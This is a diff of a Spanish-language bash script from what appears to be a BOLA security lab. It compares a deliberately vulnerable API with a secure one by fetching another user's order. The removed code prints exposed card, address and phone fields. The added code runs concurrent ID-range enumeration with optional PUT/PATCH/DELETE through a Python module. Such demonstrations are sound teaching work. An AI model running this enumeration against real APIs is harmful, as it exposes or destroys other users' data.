@@ -3,7 +3,9 @@ set -euo pipefail
 
 # ═══════════════════════════════════════════════════════════
 # API Comparator - Vulnerable vs Secure
-# Demuestra la diferencia entre ambas implementaciones
+# Demuestra la diferencia entre ambas implementaciones.
+# La comparación la hace bolakit.compare: mismos IDs y métodos
+# contra ambas APIs en paralelo, con matriz de resultados.
 # ═══════════════════════════════════════════════════════════
 
 # Colores
@@ -23,7 +25,10 @@ DEFAULT_PASSWORD="password123"
 DEFAULT_TARGET_ORDER_ID=3
 DEFAULT_TIMEOUT=12
 DEFAULT_RESULTS_DIR="compare_results"
-DEFAULT_SLEEP=1.2
+DEFAULT_METHODS="GET"
+DEFAULT_CONCURRENCY=16
+
+SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"
 
 VULN_API="${VULN_API:-$DEFAULT_VULN_API}"
 SECURE_API="${SECURE_API:-$DEFAULT_SECURE_API}"
@@ -32,7 +37,11 @@ PASSWORD="${BOLA_PASSWORD:-$DEFAULT_PASSWORD}"
 TARGET_ORDER_ID="${TARGET_ORDER_ID:-$DEFAULT_TARGET_ORDER_ID}"
 REQUEST_TIMEOUT="${COMPARE_TIMEOUT:-$DEFAULT_TIMEOUT}"
 RESULTS_DIR="${COMPARE_RESULTS_DIR:-$DEFAULT_RESULTS_DIR}"
-SLEEP_TIME="${COMPARE_SLEEP:-$DEFAULT_SLEEP}"
+SLEEP_TIME="${COMPARE_SLEEP:-}"
+TARGET_IDS="${COMPARE_IDS:-}"
+METHODS="${COMPARE_METHODS:-$DEFAULT_METHODS}"
+CONCURRENCY="${BOLA_CONCURRENCY:-$DEFAULT_CONCURRENCY}"
+EXTRA_ARGS=()
 
 banner() {
   echo -e "${CYAN}"
@@ -54,24 +63,28 @@ Opciones:
   -e, --email <correo>      Email de login (default alice@example.com)
   -p, --password <pass>     Password (default password123)
   -o, --order-id <id>       ID de orden víctima (default 3)
-  -t, --timeout <seg>       Timeout curl (default 12)
-  -r, --results-dir <dir>   Carpeta para logs (default compare_results)
-  --sleep <seg>             Delay entre fases (default 1.2)
+  -i, --ids <rango>         IDs a comparar, p.ej. 1-500,900 (reemplaza a -o)
+  -m, --methods <lista>     Métodos: GET,PUT,PATCH,DELETE (default GET)
+  --allow-delete            Permitir DELETE (borra órdenes en la API vulnerable)
+  --concurrency <n>         IDs en vuelo a la vez (default 16)
+  --report <archivo>        JSON con la matriz y las latencias
+  -t, --timeout <seg>       Timeout por request (default 12)
+  -r, --results-dir <dir>   Carpeta para resultados (default compare_results)
+  --sleep <seg>             Obsoleto: ya no hay pausas entre fases
   -c, --config <archivo>    Archivo env opcional (.compare-apis.env)
   -h, --help                Mostrar ayuda
 
 Variables: VULN_API, SECURE_API, BOLA_EMAIL, BOLA_PASSWORD,
-TARGET_ORDER_ID, COMPARE_TIMEOUT, COMPARE_RESULTS_DIR, COMPARE_SLEEP.
+TARGET_ORDER_ID, COMPARE_IDS, COMPARE_METHODS, BOLA_CONCURRENCY,
+COMPARE_TIMEOUT, COMPARE_RESULTS_DIR, PYTHON.
 EOF
 }
 
 require_bins() {
-  for bin in curl jq; do
-    if ! command -v "$bin" >/dev/null 2>&1; then
-      echo -e "${RED}[✗] Necesitas instalar '${bin}'.${NC}" >&2
-      exit 1
-    fi
-  done
+  if ! command -v "${PYTHON:-python3}" >/dev/null 2>&1; then
+    echo -e "${RED}[✗] Necesitas instalar '${PYTHON:-python3}'.${NC}" >&2
+    exit 1
+  fi
 }
 
 load_config() {
@@ -86,6 +99,8 @@ load_config() {
     REQUEST_TIMEOUT="${COMPARE_TIMEOUT:-$REQUEST_TIMEOUT}"
     RESULTS_DIR="${COMPARE_RESULTS_DIR:-$RESULTS_DIR}"
     SLEEP_TIME="${COMPARE_SLEEP:-$SLEEP_TIME}"
+    TARGET_IDS="${COMPARE_IDS:-$TARGET_IDS}"
+    METHODS="${COMPARE_METHODS:-$METHODS}"
   fi
 }
 
@@ -97,6 +112,11 @@ parse_args() {
       -e|--email) EMAIL="$2"; shift 2 ;;
       -p|--password) PASSWORD="$2"; shift 2 ;;
       -o|--order-id) TARGET_ORDER_ID="$2"; shift 2 ;;
+      -i|--ids) TARGET_IDS="$2"; shift 2 ;;
+      -m|--methods) METHODS="$2"; shift 2 ;;
+      --allow-delete) EXTRA_ARGS+=(--allow-delete); shift ;;
+      --concurrency) CONCURRENCY="$2"; shift 2 ;;
+      --report) EXTRA_ARGS+=(--report "$2"); shift 2 ;;
       -t|--timeout) REQUEST_TIMEOUT="$2"; shift 2 ;;
       -r|--results-dir) RESULTS_DIR="$2"; shift 2 ;;
       --sleep) SLEEP_TIME="$2"; shift 2 ;;
@@ -112,205 +132,32 @@ normalize_base() {
   SECURE_API="${SECURE_API%/}"
 }
 
-# Login en API vulnerable
-TOKEN_VULN=$(curl -s -X POST "$VULN_API/api/auth/login" \
-    -H "Content-Type: application/json" \
-    -d "{\"email\":\"$EMAIL\",\"password\":\"$PASSWORD\"}" \
-    | jq -r '.token // empty')
-
-if [ -z "$TOKEN_VULN" ]; then
-    echo -e "${RED}[✗] Error al autenticar en API vulnerable${NC}"
-    exit 1
-fi
-
-echo -e "${GREEN}[✓] Token API Vulnerable obtenido: ${TOKEN_VULN:0:30}...${NC}"
-
-# Login en API segura (mismo token debería funcionar)
-TOKEN_SECURE=$(curl -s -X POST "$SECURE_API/api/auth/login" \
-    -H "Content-Type: application/json" \
-    -d "{\"email\":\"$EMAIL\",\"password\":\"$PASSWORD\"}" \
-    | jq -r '.token // empty')
-
-if [ -z "$TOKEN_SECURE" ]; then
-    echo -e "${RED}[✗] Error al autenticar en API segura${NC}"
-    exit 1
-fi
-
-echo -e "${GREEN}[✓] Token API Segura obtenido: ${TOKEN_SECURE:0:30}...${NC}"
-echo ""
-
-sleep 1
-
-# ═══════════════════════════════════════════════════════════
-# FASE 2: Obtener Órdenes Propias
-# ═══════════════════════════════════════════════════════════
-
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo -e "${CYAN}FASE 2: ÓRDENES PROPIAS (Comportamiento Normal)${NC}"
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo ""
-
-echo -e "${YELLOW}[*] Obteniendo órdenes de Alice...${NC}"
-
-# API Vulnerable
-ORDERS_VULN=$(curl -s "$VULN_API/api/orders" \
-    -H "Authorization: Bearer $TOKEN_VULN")
-
-COUNT_VULN=$(echo "$ORDERS_VULN" | jq -r '.count // 0')
-echo -e "${GREEN}[✓] API Vulnerable: $COUNT_VULN órdenes propias${NC}"
-echo "$ORDERS_VULN" | jq -r '.orders[] | "    └─ Orden #\(.id): \(.product)"'
-
-# API Segura
-ORDERS_SECURE=$(curl -s "$SECURE_API/api/orders" \
-    -H "Authorization: Bearer $TOKEN_SECURE")
-
-COUNT_SECURE=$(echo "$ORDERS_SECURE" | jq -r '.count // 0')
-echo -e "${GREEN}[✓] API Segura: $COUNT_SECURE órdenes propias${NC}"
-echo "$ORDERS_SECURE" | jq -r '.orders[] | "    └─ Orden #\(.id): \(.product)"'
-
-echo ""
-sleep 2
-
-# ═══════════════════════════════════════════════════════════
-# FASE 3: ATAQUE BOLA - Intentar Acceder a Orden de Bob
-# ═══════════════════════════════════════════════════════════
-
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo -e "${CYAN}FASE 3: ATAQUE BOLA - Acceder a Orden #${TARGET_ORDER_ID} (de Bob)${NC}"
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo ""
-
-# Contador de éxitos
-VULN_SUCCESS=0
-SECURE_SUCCESS=0
-
-# ─────────────────────────────────────────────────────────
-# Atacar API Vulnerable
-# ─────────────────────────────────────────────────────────
-
-echo -e "${RED}[!] ATACANDO API VULNERABLE...${NC}"
-echo -e "${YELLOW}    Request: GET /api/orders/${TARGET_ORDER_ID}${NC}"
-
-RESPONSE_VULN=$(curl -s -w "\n%{http_code}" "$VULN_API/api/orders/$TARGET_ORDER_ID" \
-    -H "Authorization: Bearer $TOKEN_VULN")
-
-HTTP_CODE_VULN=$(echo "$RESPONSE_VULN" | tail -n1)
-BODY_VULN=$(echo "$RESPONSE_VULN" | sed '$d')
-
-echo -e "    Status: ${HTTP_CODE_VULN}"
-
-if [ "$HTTP_CODE_VULN" == "200" ]; then
-    echo -e "${RED}    [💀] VULNERABILIDAD CONFIRMADA!${NC}"
-    echo -e "${RED}    [💀] Se obtuvo acceso a datos de otro usuario${NC}"
-    echo ""
-    echo -e "${YELLOW}    Datos expuestos:${NC}"
-    
-    USER_ID=$(echo "$BODY_VULN" | jq -r '.order.userId // "N/A"')
-    PRODUCT=$(echo "$BODY_VULN" | jq -r '.order.product // "N/A"')
-    AMOUNT=$(echo "$BODY_VULN" | jq -r '.order.amount // "N/A"')
-    CARD=$(echo "$BODY_VULN" | jq -r '.order.creditCard // "N/A"')
-    ADDRESS=$(echo "$BODY_VULN" | jq -r '.order.address // "N/A"')
-    PHONE=$(echo "$BODY_VULN" | jq -r '.order.phone // "N/A"')
-    
-    echo -e "      └─ Usuario víctima ID: ${RED}${USER_ID}${NC}"
-    echo -e "      └─ Producto: ${PRODUCT}"
-    echo -e "      └─ Monto: ${AMOUNT}"
-    echo -e "      └─ 💳 Tarjeta: ${RED}${CARD}${NC}"
-    echo -e "      └─ 📍 Dirección: ${RED}${ADDRESS}${NC}"
-    echo -e "      └─ 📞 Teléfono: ${RED}${PHONE}${NC}"
-    
-    VULN_SUCCESS=1
-else
-    echo -e "${GREEN}    [✓] Acceso denegado (Inesperado)${NC}"
-fi
-
-echo ""
-sleep 2
-
-# ─────────────────────────────────────────────────────────
-# Atacar API Segura
-# ─────────────────────────────────────────────────────────
-
-echo -e "${GREEN}[!] ATACANDO API SEGURA...${NC}"
-echo -e "${YELLOW}    Request: GET /api/orders/${TARGET_ORDER_ID}${NC}"
-
-RESPONSE_SECURE=$(curl -s -w "\n%{http_code}" "$SECURE_API/api/orders/$TARGET_ORDER_ID" \
-    -H "Authorization: Bearer $TOKEN_SECURE")
-
-HTTP_CODE_SECURE=$(echo "$RESPONSE_SECURE" | tail -n1)
-BODY_SECURE=$(echo "$RESPONSE_SECURE" | sed '$d')
-
-echo -e "    Status: ${HTTP_CODE_SECURE}"
-
-if [ "$HTTP_CODE_SECURE" == "403" ] || [ "$HTTP_CODE_SECURE" == "404" ]; then
-    echo -e "${GREEN}    [🛡️] ACCESO BLOQUEADO CORRECTAMENTE${NC}"
-    ERROR_MSG=$(echo "$BODY_SECURE" | jq -r '.error // "No tienes permiso"')
-    echo -e "${GREEN}    [🛡️] Mensaje: ${ERROR_MSG}${NC}"
-    SECURE_SUCCESS=1
-else
-    echo -e "${RED}    [✗] FALLO: La API no bloqueó el acceso (Verificar)${NC}"
-fi
-
-echo ""
-sleep 1
-
-# ═══════════════════════════════════════════════════════════
-# FASE 4: Resumen y Conclusiones
-# ═══════════════════════════════════════════════════════════
-
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo -e "${CYAN}                  RESUMEN DE COMPARACIÓN${NC}"
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo ""
-
-# Tabla comparativa
-printf "%-30s | %-15s | %-15s\n" "Aspecto" "API Vulnerable" "API Segura"
-echo "─────────────────────────────────────────────────────────────────"
-
-if [ $VULN_SUCCESS -eq 1 ]; then
-    printf "%-30s | ${RED}%-15s${NC} | ${GREEN}%-15s${NC}\n" "Autenticación" "✓ Funciona" "✓ Funciona"
-    printf "%-30s | ${RED}%-15s${NC} | ${GREEN}%-15s${NC}\n" "Órdenes propias" "✓ Acceso OK" "✓ Acceso OK"
-    printf "%-30s | ${RED}%-15s${NC} | ${GREEN}%-15s${NC}\n" "BOLA (Orden ajena)" "💀 VULNERABLE" "🛡️ BLOQUEADO"
-    printf "%-30s | ${RED}%-15s${NC} | ${GREEN}%-15s${NC}\n" "Datos expuestos" "SÍ (crítico)" "NO"
-    printf "%-30s | ${RED}%-15s${NC} | ${GREEN}%-15s${NC}\n" "Nivel de seguridad" "BAJO" "ALTO"
-else
-    echo -e "${YELLOW}[!] Resultados inesperados. Verificar configuración.${NC}"
+# El archivo de config se lee antes de las opciones para que éstas lo pisen.
+for ((i = 1; i <= $#; i++)); do
+  if [[ "${!i}" == "-c" || "${!i}" == "--config" ]]; then
+    next=$((i + 1))
+    CONFIG_FILE="${!next:-$CONFIG_FILE}"
+  fi
+done
+load_config
+parse_args "$@"
+normalize_base
+require_bins
+banner
+
+if [[ -n "$SLEEP_TIME" ]]; then
+  echo -e "${YELLOW}[!] --sleep/COMPARE_SLEEP ya no tiene efecto: las fases corren en paralelo.${NC}"
 fi
 
-echo ""
-
-# Conclusión final
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo -e "${CYAN}                       CONCLUSIÓN${NC}"
-echo -e "${CYAN}═══════════════════════════════════════════════════════════${NC}"
-echo ""
-
-if [ $VULN_SUCCESS -eq 1 ] && [ $SECURE_SUCCESS -eq 1 ]; then
-    echo -e "${GREEN}✅ DEMOSTRACIÓN EXITOSA${NC}"
-    echo ""
-    echo "La comparación demuestra claramente:"
-    echo ""
-    echo -e "  ${RED}⚠️  API Vulnerable:${NC}"
-    echo "     • Permite acceso a órdenes de otros usuarios"
-    echo "     • Expone información sensible (tarjetas, direcciones)"
-    echo "     • No valida ownership de recursos"
-    echo ""
-    echo -e "  ${GREEN}✅ API Segura:${NC}"
-    echo "     • Bloquea acceso no autorizado"
-    echo "     • Valida que user_id coincida con el token"
-    echo "     • Protege información sensible"
-    echo ""
-    echo -e "${YELLOW}Diferencia clave en el código:${NC}"
-    echo ""
-    echo -e "${RED}  Vulnerable:${NC}"
-    echo "    SELECT * FROM orders WHERE id = ?"
-    echo ""
-    echo -e "${GREEN}  Segura:${NC}"
-    echo "    SELECT * FROM orders WHERE id = ? AND user_id = ?"
-    echo ""
-    
-    exit 0
-else
-    echo -e "${YELLOW}⚠️  Verificar la configuración de las APIs${NC}"
-    exit 1
-fi
+exec env PYTHONPATH="$SCRIPT_DIR/../scripts${PYTHONPATH:+:$PYTHONPATH}" \
+  "${PYTHON:-python3}" -m bolakit.compare \
+  --vuln "$VULN_API" \
+  --secure "$SECURE_API" \
+  --email "$EMAIL" \
+  --password "$PASSWORD" \
+  --ids "${TARGET_IDS:-$TARGET_ORDER_ID}" \
+  --methods "$METHODS" \
+  --concurrency "$CONCURRENCY" \
+  --timeout "$REQUEST_TIMEOUT" \
+  --results-dir "$RESULTS_DIR" \
+  "${EXTRA_ARGS[@]}"